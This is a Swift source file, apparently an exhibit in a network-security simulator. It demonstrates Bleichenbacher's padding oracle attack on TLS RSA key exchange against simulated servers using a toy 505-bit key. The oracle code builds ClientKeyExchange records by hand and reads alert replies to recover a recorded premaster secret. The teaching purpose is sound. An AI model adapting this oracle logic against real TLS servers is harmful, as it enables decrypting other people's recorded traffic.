import Crypto
import PKI
import Simulator
import TCPSim
import TLSSim
import Trace

/// A server that says whether a decrypted block begins with 00 02 decrypts a recorded premaster secret (Bleichenbacher 1998).
enum Bleichenbacher: Exhibit {
    static let card = Card(
        "bleichenbacher", in: .handshake, from: .onPath, to: .read, variants: ["strong", "weak"], unit: "connections",
        year: 1998,
        cites: [.rfc(5246, "7.4.7.1"), .rfc(8017, "7.2.1")], cves: ["CVE-1999-0007", "CVE-2017-13099"],
        words: BleichenbacherCard.self)

    /// The least that holds a premaster secret and leaves n/B between 256 and 512.
    private static let keyBits = 505
    private static let server = Socket(.server, 443)
    private static let client = Socket(.client, 50_000)

    static func perform(_ show: Performance) throws -> Outcome {
        let stage = show.stage(client: client)
        let victims = try Victims(show, .rsaAES128GCM, diligence: .none)
        var random = show.seeds.fork("key")
        let key = try RSAPrivateKey.generateToy(bits: keyBits, using: &random)
        let leaf = try victims.cast.pki.root.certify(
            .server(hostName: Visit.hostName, at: Visit.epoch), key: SubjectKeyInfo(.rsa(key.publicKey)),
            serialNumber: [0x40] + random.octets(15))
        let identity = Identity(chain: [leaf], privateKey: .rsa(key), hostNames: [Visit.hostName])
        let isStrict = show.variant == "weak"
        // Half of the rule: nothing is said of padding that is wrong behind the beginning.
        let isStrictlyTold = isStrict && !show.isHalf
        let tell = show.isWhole ? RSAKeyExchange.PaddingOracle.nothing : isStrictlyTold ? .padding : .beginning
        let places = show.pair(on: stage)
        var number = 0
        stage.listen(places.server, port: server.port) { _ in
            number += 1
            return victims.server(
                number,
                configure: {
                    $0.identity = identity
                    $0.paddingOracle = tell
                }, answers: { _ in .ends([Array("you are welcome".utf8)]) })
        }
        stage.connect(places.client, from: client.port, to: server, victims.client(says: [Array("pay 10".utf8)]))
        let attacker = show.attacker(on: stage)
        let recorded = recordedSecret(attacker.wait(.seconds(2)))

        var outcome = Outcome()
        outcome.truth = [
            ("premaster", (try? PKCS1v15.decrypt(recorded.octets, with: key, blindedBy: &random)) ?? [])
        ]
        outcome.evidence = [("server", .socket(server)), ("recorded", .socket(client))]
        outcome.say(
            BleichenbacherNote.recorded(bits: keyBits), frames: recorded.frames,
            [.init("EncryptedPreMasterSecret", recorded.octets)])
        outcome.say(BleichenbacherNote.asks)
        var oracle = Oracle(attacker, server, key: key.publicKey, ciphertext: Integer(bigEndian: recorded.octets))
        var search = BleichenbacherSearch(key.publicKey, isStrict: isStrict, using: attacker.random.fork("search"))
        let found = search.run { oracle.conforms($0) }
        outcome.tries = search.queries
        outcome.theory = Theory(
            median: isStrict ? 7_800 : 1_276, "2n/3B for the first answer that differs, then about two a bit",
            [("n/B", Double(search.limit / search.patience)), ("bits", Double(keyBits))])
        outcome.figures = [
            Figure("first", unit: "connections", measured: Double(search.progress.first?.queries ?? search.queries)),
            Figure("blindings", unit: "times", measured: Double(search.blindings)),
        ]
        outcome.evidence += [
            ("blind", .string(Hex.string(search.blinding.bigEndian))),
            ("factors", .array(search.factors.map { .string(Hex.string($0.bigEndian)) })),
        ]
        outcome.connections = [0, 1, oracle.first?.connection ?? 2, oracle.count]
        if let first = oracle.first, let answer = oracle.answers[first.alert] {
            outcome.say(
                BleichenbacherNote.first(first.alert, after: first.connection, count: answer), frames: first.frames)
            outcome.say(BleichenbacherNote.narrowing(search.progress.map { ($0.queries, $0.openBits) }))
            if search.blindings > 0 { outcome.say(BleichenbacherNote.blinded(times: search.blindings)) }
        }
        let answers = oracle.answers.sorted { $0.key.rawValue < $1.key.rawValue }.map { ($0.key, $0.value) }
        outcome.say(BleichenbacherNote.answers(answers))
        outcome.answers = answers.map { ("\($0.0)", $0.1) }
        if let block = found?.bigEndian(count: key.size) {
            let premaster = Array(block.suffix(RSAKeyExchange.premasterLength))
            outcome.loot = [("premaster", premaster)]
            outcome.reached = true
            outcome.say(BleichenbacherNote.found, [.init("pre_master_secret", premaster)])
            outcome.say(BleichenbacherNote.cost)
        } else {
            outcome.say(BleichenbacherNote.nothing, cite: .rfc(5246, "7.4.7.1"))
        }
        outcome.reproduce = [
            "tshark -r FILE -Y 'tls.alert_message.desc && ip.dst==10.0.0.3' -T fields -e tls.alert_message.desc | sort "
                + "| uniq -c"
        ]
        return outcome
    }

    /// What the victim's client has encrypted, as it passed her.
    private static func recordedSecret(_ sights: [Sight]) -> (octets: [UInt8], frames: [Int]) {
        for sight in sights where sight.source == client {
            // A record of a handshake message of type 16, and behind two lengths the octets.
            let octets = sight.segment.payload
            if octets.count > 11, octets[0] == ContentType.handshake.rawValue, octets[5] == clientKeyExchange {
                return (
                    Array(octets[11..<min(octets.count, 11 + (Int(octets[9]) << 8 | Int(octets[10])))]), [sight.frame]
                )
            }
        }
        return ([], [])
    }

    /// The type of ClientKeyExchange.
    private static let clientKeyExchange: UInt8 = 16

    /// The server, asked by connections.
    private struct Oracle {
        private var attacker: Attacker
        private let server: Socket
        private let key: RSAPublicKey
        private let ciphertext: Integer
        /// Connections so far.
        private(set) var count = 0
        /// How often each alert came back.
        private(set) var answers: [AlertDescription: Int] = [:]
        /// The first connection that was answered otherwise than those before.
        private(set) var first: (alert: AlertDescription, connection: Int, frames: [Int])?

        init(_ attacker: Attacker, _ server: Socket, key: RSAPublicKey, ciphertext: Integer) {
            self.attacker = attacker
            self.server = server
            self.key = key
            self.ciphertext = ciphertext
        }

        /// Whether the plaintext times `factor` is answered otherwise than most.
        mutating func conforms(_ factor: Integer) -> Bool {
            guard let power = factor.power(key.e, modulo: key.n),
                let octets = (ciphertext * power).modulo(key.n).bigEndian(count: key.size)
            else { return false }
            let frame = attacker.frame() + 1
            guard let alert = answer(to: octets) else { return false }
            let usual = answers.max { $0.value < $1.value }?.key
            answers[alert, default: 0] += 1
            guard let usual, alert != usual else { return false }
            if first == nil { first = (alert, count, [frame, attacker.frame()]) }
            return true
        }

        /// The alert with which a handshake ends that has these octets as EncryptedPreMasterSecret. She does not know the premaster
        /// secret, so her Finished is never right.
        private mutating func answer(to encrypted: [UInt8]) -> AlertDescription? {
            count += 1
            let line = attacker.open(to: server)
            let hello = ClientHello(
                random: attacker.random.octets(32), cipherSuites: [CipherSuite.rsaAES128GCM.codePoint])
            line.send(Self.record(.handshake, hello.message.bytes))
            var heard: [UInt8] = []
            func wait(for end: [UInt8]) {
                attacker.wait {
                    heard += line.read()
                    return line.isOver || heard.suffix(end.count).elementsEqual(end)
                }
            }
            // ServerHelloDone has no content.
            wait(for: [14, 0, 0, 0])
            let length = [UInt8(encrypted.count / 256), UInt8(encrypted.count % 256)]
            let whole = [UInt8((encrypted.count + 2) / 256), UInt8((encrypted.count + 2) % 256)]
            heard = []
            line.send(
                Self.record(.handshake, [clientKeyExchange, 0] + whole + length + encrypted)
                    + Self.record(.changeCipherSpec, [1]) + Self.record(.handshake, attacker.random.octets(40)))
            attacker.wait {
                heard += line.read()
                return line.isOver || heard.count >= 7
            }
            line.abort()
            attacker.wait(atMost: .milliseconds(20)) { false }
            _ = attacker.look()
            guard heard.count >= 7, heard[0] == ContentType.alert.rawValue else { return nil }
            return AlertDescription(rawValue: heard[6])
        }

        private static func record(_ type: ContentType, _ content: [UInt8]) -> [UInt8] {
            [type.rawValue, 3, 3, UInt8(content.count / 256), UInt8(content.count % 256)] + content
        }
    }
}
